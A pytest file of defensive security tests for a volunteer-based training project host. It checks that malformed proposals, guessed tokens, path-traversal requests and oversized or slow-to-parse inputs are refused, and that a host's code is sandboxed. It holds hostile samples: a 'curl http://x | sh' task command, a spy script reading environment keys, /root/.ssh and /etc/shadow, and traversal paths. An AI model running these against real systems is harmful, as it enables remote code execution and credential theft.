"""Attacks on a project of strangers: by volunteers on the host and on each other, and by a host on its volunteers."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import math
import re
import resource
import socket
import time
import tomllib
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
import tomli_w

from analysis.study import query
from arena.home.bundle import Bundle, unpack
from arena.home.host import ProjectHost
from arena.home.project import Project
from arena.home.protocol import Introduction, Proposal, parsed
from arena.home.server import create_app
from arena.home.volunteer import VolunteerSession
from arena.serving.limits import Rate
from arena.work import sandbox
from programs.common.errors import CredentialMissing, EnvironmentProblem, MetaloopError, UsageError
from programs.common.text import one_line
from tests.arena.home.clients import Client, better, new_project, people, rows, states, work
from tests.arena.home.serving import get, serving
from tests.arena.home.test_serving import session


@pytest.fixture
def eve(host: ProjectHost) -> Client:
    return Client(host, "Eve")


# What a volunteer sends.

FILES = {"train.py": "LR = 1\n"}
WILD: dict[str, tuple[object, ...]] = {
    "gain": (math.nan, math.inf, True, "9", None, 10**400),
    "error": (-1.0, math.inf, "1"),
    "base": ("main", "0" * 39, "../../" + "0" * 34, None),
    "files": (["train.py"], {"train.py": 7}, {"train.py": "x = '\ud800'"}, None, {}, {"train.py": "x" * (300 << 10)}),
    "more\x1b[2J": (1,),
}


@pytest.mark.parametrize("field", WILD)
def test_a_spoilt_proposal_changes_nothing(project: Project, eve: Client, field: str) -> None:
    sent = {"base": project.chain.head, "files": FILES, "gain": 1.0}
    for value in WILD[field]:
        with pytest.raises(UsageError, match=rf"^({re.escape(one_line(field))}|Invalid JSON|larger than)") as refused:
            eve.host.propose(eve.number, parsed(Proposal, json.dumps({**sent, field: value})))
        assert refused.value.message.isprintable()
    assert not rows(project) and len(people(project)) == 1


def test_another_volunteers_source_is_merged_once(project: Project, host: ProjectHost, eve: Client) -> None:
    ann, files, base = Client(host, "Ann"), better(project, MOMENTUM=0.9), project.chain.head
    assert ann.propose(files).state == "waiting"
    stolen = {"train.py": files["train.py"] + "\n\n# by Eve\n"}
    assert eve.propose(stolen, 9.0).state == "waiting"
    work(project)
    assert sorted(state for state, _ in states(project).values()) == ["merged", "rejected"]
    again = eve.propose({"train.py": files["train.py"] + "\n# once more\n"}, 9.0, base=base)
    assert again.state == "refused" and "the same source as proposal" in again.reason


def test_a_guessed_token_opens_nothing(project: Project, host: ProjectHost, eve: Client, tmp_path: Path) -> None:
    other = Client(ProjectHost(new_project(tmp_path / "other")), "Eve")
    [known] = people(project)
    with serving(project) as url:
        for token in ("", "x", other.token, known.token_hash, eve.token[:-1], eve.token.lower(), "é"):
            status, text = get(f"{url}/api/v1/proposals", b"{}", token=token)
            assert status == 401 and "needs the token" in text and "\n" not in text
        assert get(f"{url}/api/v1/volunteers", b'{"name":"x"}', token="x")[0] == 401
        assert get(f"{url}/api/v1/volunteers", b'{"name":"Eva"}', token=eve.token)[0] == 200
    for token in ("", known.token_hash):
        with pytest.raises(CredentialMissing):
            host.volunteer_of(token)
    assert [each.label for each in people(project)] == ["Eva (1)"] and not rows(project)


def test_a_proposal_that_is_sent_many_times_at_once_is_one(project: Project, eve: Client) -> None:
    body = json.dumps({"base": project.chain.head, "files": better(project, MOMENTUM=0.9), "gain": 1.0}).encode()
    with serving(project) as url, ThreadPoolExecutor(20) as threads:
        answers = set(threads.map(lambda _: get(f"{url}/api/v1/proposals", body, token=eve.token), range(20)))
    [(status, text)] = answers
    assert status == 200 and json.loads(text)["state"] == "waiting" and len(rows(project)) == 1


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("import os\nos._exit(0)\n", "a training of it failed"),
        ("raise SystemExit(0)\n", "a training of it failed"),
        ("while True:\n    pass\n", "a training of it failed"),
        ("open('/var/tmp/metaloop-was-here', 'w').write('x')\n", "a training of it failed"),
        ("print('metric: 0.0')\n", "no gain shown"),
    ],
)
def test_poisoned_sources_are_never_merged(project: Project, eve: Client, text: str, reason: str) -> None:
    base = project.task.baseline().text()
    head, _, rest = base.partition("LR = ")
    assert eve.propose({"train.py": f"{head}{text}LR = {rest}"}, 99.0).state == "waiting"
    work(project)
    assert states(project)[1][0] == "rejected" and states(project)[1][1].startswith(reason)
    assert len(project.chain.commits()) == 1
    assert not Path("/var/tmp/metaloop-was-here").exists()


def test_a_source_that_fails_on_some_seeds_is_refused(project: Project, eve: Client) -> None:
    text = better(project, MOMENTUM=0.9)["train.py"]
    unlucky = text.replace("def main():\n", "def main():\n    if prepare.SEED % 2:\n        raise OSError\n")
    assert eve.propose({"train.py": unlucky}, 9.0).state == "waiting"
    work(project)
    assert states(project)[1][0] == "rejected" and "a training of it failed" in states(project)[1][1]


@pytest.mark.slow
def test_claims_buy_no_merge_and_cost_the_proposer_its_place(project: Project, host: ProjectHost, eve: Client) -> None:
    ann = Client(host, "Ann")
    for k, worse in enumerate((1e-5, 2e-5, 3e-5)):
        eve.propose(better(project, LR=worse), 10.0 ** (k + 1))
        work(project)
    ann.propose(better(project, MOMENTUM=0.9), 0.3)
    eve.propose(better(project, LR=4e-5), 1e300)
    work(project)
    found = states(project)
    assert [state for state, _ in found.values()].count("merged") == 1 and found[4][0] == "merged"
    assert all("no gain shown" in reason for state, reason in found.values() if state != "merged")


# A volunteer's HTTP requests.


@pytest.mark.parametrize(
    "path",
    [
        "/main.git/../study.toml", "/main.git/%2e%2e/home.sqlite", "/main.git/objects/../../home.sqlite",
        "/main.git/config", "/main.git/hooks/pre-receive.sample", "/main.git//etc/passwd",
        "/api/v1/task/" + "0" * 64, "/static/../server.py",
        "/study.toml",
    ],
)  # fmt: skip
def test_nothing_but_the_pages_and_main_can_be_fetched(project: Project, path: str) -> None:
    with serving(project) as url:
        status, text = get(url + path)
    assert status in (400, 404, 422) and "secret" not in text


def test_requests_that_are_too_large_too_many_or_malformed(project: Project) -> None:
    with serving(project, Rate(6, 60.0)) as url:
        address = f"{url}/api/v1/volunteers"
        assert get(address, b"x", length=3 << 20)[0] == 413  # not one byte more of it was waited for
        for body in (b"not json", b"\xff" * 100, b"{" * 100_000, b'{"name": 7}', b'{"<b>\x1b[2J": 1}'):
            status, text = get(address, body)
            said = json.loads(text)["error"]
            assert status == 422 and said["message"].isprintable() and "docs/home.md" in said["hint"]
        assert 429 in [get(address, b"{}")[0] for _ in range(8)]
        assert get(url + "/")[0] == 200  # what is only read goes on
    assert not rows(project) and not people(project)


# A host's bundle, program and replies.


def bundle_of(project: Project, name: str, content: bytes) -> Bundle:
    """The project's bundle with another file."""
    coded = {**json.loads(project.bundle.body), name: base64.b64encode(content).decode()}
    return Bundle(json.dumps(coded).encode())


def toml_with(project: Project, change: Callable[[dict[str, Any]], object]) -> bytes:
    read = tomllib.loads((project.task.folder / "task.toml").read_text("utf-8"))
    change(read)
    return tomli_w.dumps(read).encode()


@pytest.mark.parametrize(
    "name", ["../x", "/etc/x", "a/../../x", "..", "a\\b", ".bashrc", "a//b", "x" * 300, "a\0b", ""]
)
def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name: str) -> None:
    body = json.dumps({**json.loads(project.bundle.body), name: ""}).encode()
    with pytest.raises(UsageError, match="forbidden name"):
        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "v" / "task", {})
    assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()


PRINTED = {"kind": "printed", "pattern": "metric: (.*)"}


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda t: t.update(run={"command": "curl http://x | sh"}, score=PRINTED), "runs a command"),
        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "data.source: unknown key"),
        (lambda t: t["task"].update(editable=["../../../etc/passwd"]), "is outside the task folder"),
        (lambda t: t["score"].update(kind="theirs"), "no scorer 'theirs'"),
    ],
)
def test_task_with_a_command_or_scoring_of_its_own_is_refused(
    project: Project, tmp_path: Path, change: Callable[[dict[str, Any]], object], why: str
) -> None:
    bundle = bundle_of(project, "task.toml", toml_with(project, change))
    with pytest.raises(MetaloopError, match=why):
        unpack(bundle.body, bundle.digest, tmp_path / "task", {})


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"{}", b'{"task.toml": 7}', b'{"task.toml": "%%%"}', b"{" * 9999, b"\xff"]
)
def test_damaged_bundles_are_refused(tmp_path: Path, body: bytes) -> None:
    with pytest.raises(UsageError):
        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "task", {})


def test_bundle_with_another_hash_size_or_files_is_refused(project: Project, tmp_path: Path) -> None:
    bundle = project.bundle
    with pytest.raises(UsageError, match="not the one"):
        unpack(bundle.body, "0" * 64, tmp_path / "a", {})
    for extra in ({f"f{k}": "" for k in range(500)}, {"big": base64.b64encode(bytes(9 << 20)).decode()}):
        body = json.dumps({**json.loads(bundle.body), **extra}).encode()
        with pytest.raises(UsageError, match=r"too large|not the one"):
            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "b", {})
    with pytest.raises(UsageError, match="other files"):
        unpack(bundle.body, bundle.digest, tmp_path / "c", {"prepare.py": "import os\n"})


SPY = """
import os, pathlib, socket
SEEN = [value for value in os.environ.values() if "my key" in value]
for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
    try:
        SEEN.append(pathlib.Path(path).read_bytes()[:20])
    except OSError:
        pass
for path in ({outside!r},):
    try:
        pathlib.Path(path).write_text("x")
    except OSError:
        pass
try:
    SEEN.append(socket.create_connection(("127.0.0.1", {port}), 2).recv(1))
except OSError:
    pass
if SEEN:
    raise RuntimeError("SAW " + repr(SEEN))
"""


@pytest.mark.parametrize("where", ["data.py", "train.py"])
def test_host_cannot_read_or_write_files_of_the_volunteers(
    project: Project, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
    sandbox.require(project.task, True)
    monkeypatch.setenv("SOME_API_KEY", "my key")
    private = tmp_path / "private"
    private.mkdir()
    (private / "secret.txt").write_text("my key")
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        spy = SPY.format(
            secret=str(private / "secret.txt"), outside=str(private / "outside"), port=listening.getsockname()[1]
        )
        own = (project.task.folder / where).read_text("utf-8")
        head, _, rest = own.partition("\nimport ")
        bundle = bundle_of(project, where, f"{head}\n{spy}\nimport {rest}".encode())
        main = dict(project.task.baseline().files)
        if where == "train.py":
            main = {"train.py": f"{head}\n{spy}\nimport {rest}"}
        (tmp_path / "v").mkdir()
        ann = hosted(tmp_path / "v", project, bundle, main)
        run = ann.begin()
        ann.run(run)
        listening.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listening.accept()
    found = query(run / "study", "SELECT status, reason FROM experiments")
    assert len(found) > 1 and found[0]["status"] == "ok"  # nothing was seen, or its first training would have failed
    assert not (private / "outside").exists() and "SAW" not in str(found)


def about(changes: Mapping[str, Any]) -> bytes:
    """What a host answers to a request for its project."""
    task = {"name": "t", "digest": "0" * 64, "unit": "nats"}
    project = {"project": "h0123456789ab", "title": "t", "task": task, "block": 0, "commit": "0" * 40}
    return json.dumps({**project, "files": {"train.py": ""}, "budget": 1.2, **changes}).encode()


def hosted(folder: Path, project: Project, bundle: Bundle, main: Mapping[str, str]) -> VolunteerSession:
    """A volunteer that has joined a host with this task and these files of main."""
    task = {"name": "t", "digest": bundle.digest, "unit": "nats"}
    ann = session("http://127.0.0.1:9", folder)
    answers = {"/api/v1/project": about({"project": project.project_id, "task": task, "files": main})}
    ann.reach = lambda path, *_: answers.get(path, bundle.body)  # type: ignore[method-assign]
    joined = {"url": "http://127.0.0.1:9", "project": project.project_id, "task": bundle.digest, "token": "t"}
    (folder / "project.json").write_text(json.dumps(joined))
    return ann


MALFORMED: list[tuple[str, object]] = [
    ("project", "../../outside"), ("project", 7), ("commit", "../task"), ("files", {}), ("files", {"train.py": 7}),
    ("budget", math.inf), ("budget", 1e9), ("budget", 0.0), ("block", True),
]  # fmt: skip


@pytest.mark.parametrize(("field", "value"), MALFORMED)
def test_a_main_that_is_malformed_is_not_kept(project: Project, tmp_path: Path, field: str, value: object) -> None:
    (tmp_path / "v").mkdir()
    ann = hosted(tmp_path / "v", project, project.bundle, {})
    ann.reach = lambda *_: about({field: value})  # type: ignore[method-assign]
    with pytest.raises(EnvironmentProblem, match=f"the host's answer is malformed: {field}"):
        ann.step()
    assert not list(ann.runs.iterdir()) and not (tmp_path / "outside").exists()


SLOW = ["with " + "a," * 30_000 + "a:pass\n", "x = " + "(" * 190 + "a," * 20_000 + ")" * 190, "x=" + "-" * 60_000 + "1"]


LONG = "with " + "a," * 100_000 + "a:pass\n"


def of_children() -> float:
    """CPU-seconds of the processes that this one has waited for."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


@pytest.mark.parametrize("text", [*SLOW, LONG], ids=["60k", "brackets", "minus", "200k"])
def test_a_source_that_is_slow_to_parse_holds_up_nobody(project: Project, host: ProjectHost, text: str) -> None:
    """Its size is checked first; it is parsed outside the transaction, by a process that is ended after two seconds of
    CPU; another volunteer is answered meanwhile."""
    eve, ann = Client(host, "Eve"), Client(host, "Ann")
    sent = parsed(Proposal, json.dumps({"base": project.chain.head, "files": {"train.py": text}, "gain": 1.0}))
    before = of_children()
    with ThreadPoolExecutor(1) as thread:
        checking = thread.submit(host.propose, eve.number, sent)
        time.sleep(0.05)
        ann.propose(FILES, base="0" * 40)
        host.join(ann.number, Introduction(name="Anna"))  # in a transaction of its own
        answered_meanwhile = not checking.done()
        answer = checking.result(100)
    assert answered_meanwhile or text not in SLOW[:2]
    assert (of_children() - before > 0.1) == (text in SLOW[:2])  # the others are too large, or break the parser at once
    assert ("larger than" in answer.reason) == (len(text) > 64 << 10)
    assert answer.state in ("waiting", "refused")  # some parse within the limit


@pytest.mark.parametrize(("address", "refused"), [("2001:db8:1:1::{}", True), ("2001:db8:1:{}::1", False)])
def test_the_addresses_of_one_network_are_one_client(project: Project, address: str, refused: bool) -> None:
    app = create_app(project, Rate(5, 600.0))

    async def status(number: int) -> int:
        transport = httpx.ASGITransport(app, client=(address.format(f"{number:x}"), 1))
        async with httpx.AsyncClient(transport=transport, base_url="http://host") as client:
            return (await client.post("/api/v1/volunteers", content=b"{}")).status_code

    codes = [asyncio.run(status(number)) for number in range(1, 9)]
    assert codes == [422] * 5 + ([429] * 3 if refused else [422] * 3)
